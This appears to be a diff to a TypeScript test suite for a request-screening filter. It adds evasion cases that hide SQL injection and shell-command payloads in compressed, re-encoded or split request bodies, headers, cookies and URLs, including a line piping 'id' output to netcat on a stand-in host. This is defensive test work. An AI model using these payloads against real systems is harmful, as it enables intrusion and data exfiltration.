@@ -139,6 +139,11 @@ const hidden: Readonly<Record<string, readonly [body: RequestBody, headers: Head
     raw('id=0/*&id=*/union/*&id=*/select/*&id=*/password/*&id=*/from/*&id=*/users'),
     form,
   ],
+  'bytes behind a packed stream in a form': [
+    raw(Buffer.concat([deflateSync('a=b'), Buffer.from(`x&+%71=${sql}`)])),
+    { ...form, 'content-encoding': 'deflate' },
+  ],
+  'the seven bits of ASCII': [raw(Buffer.from('q=\xa7 OR 1=1 --', 'latin1')), form],
   'a text that a parser handed on': [{ kind: 'parsed', value: `{"a":"$(id)","a":""}` }, json],
 };
 
@@ -175,6 +180,18 @@ const parts: Readonly<Record<string, string>> = {
     'name="q"',
     'Content-Transfer-Encoding: quoted-printable\r\n',
   ),
+  'a disposition that is none': `\r\n--B\r\nContent-Disposition:z"\r\n\r\n;id|nc e.test 4444\r\n--B--`,
+  'base64 without a disposition': file(
+    'JyBPUiAxPTEgLS0=',
+    'x="',
+    'Content-Transfer-Encoding: base64\r\n',
+  ),
+  'UTF-16 without a disposition': file(
+    Buffer.from(sql, 'utf16le').toString('latin1'),
+    'x="',
+    'Content-Type: a/b; charset=utf-16le\r\n',
+  ),
+  'a file name in pieces': file('x', `name="f"; filename*0="' OR 1"; filename*1="=1 --"`),
   'base64 of a short text': file(
     Buffer.from('$(id)').toString('base64'),
     'name="q"',
@@ -253,9 +270,21 @@ describe('a head', () => {
     });
   }
 
+  it('is screened in an address that is none, and in fragments of the target', async () => {
+    const none: RequestBody = { kind: 'none' };
+    assert.ok(isBlocked(await read(none, { 'x-forwarded-for': ['$(id)'] })));
+    assert.ok(isBlocked(await read(none, {}, `/#?q=${encodeURIComponent(sql)}`)));
+    assert.ok(isBlocked(await read(none, {}, `/??q=${encodeURIComponent(sql)}`)));
+    assert.ok(isBlocked(await read(none, {}, '/?kz=%5D=1 OR 1=1')));
+    assert.ok(isBlocked(await read(none, { 'x-csrf-token': ['1', "' OR 1=1 --"] })));
+    assert.ok(isBlocked(await read(none, { cookie: ["a=' OR/*", '*/1=1 --'] })));
+  });
+
   it('is screened in the user of Basic, and keeps tokens and passwords to itself', async () => {
     const basic = (text: string) => `Basic ${Buffer.from(text).toString('base64')}`;
-    assert.ok(isBlocked(await read({ kind: 'none' }, { authorization: [basic(`${sql}:x`)] })));
+    const user = basic(`${sql}:x`);
+    assert.ok(isBlocked(await read({ kind: 'none' }, { authorization: [user] })));
+    assert.ok(isBlocked(await read({ kind: 'none' }, { authorization: [`${user},`] })));
     const secret = 'correct-horse';
     for (const value of [basic(`anna:${secret}`), `Bearer ${secret}`, secret]) {
       const headers = { authorization: [value], 'x-api-key': [secret] };
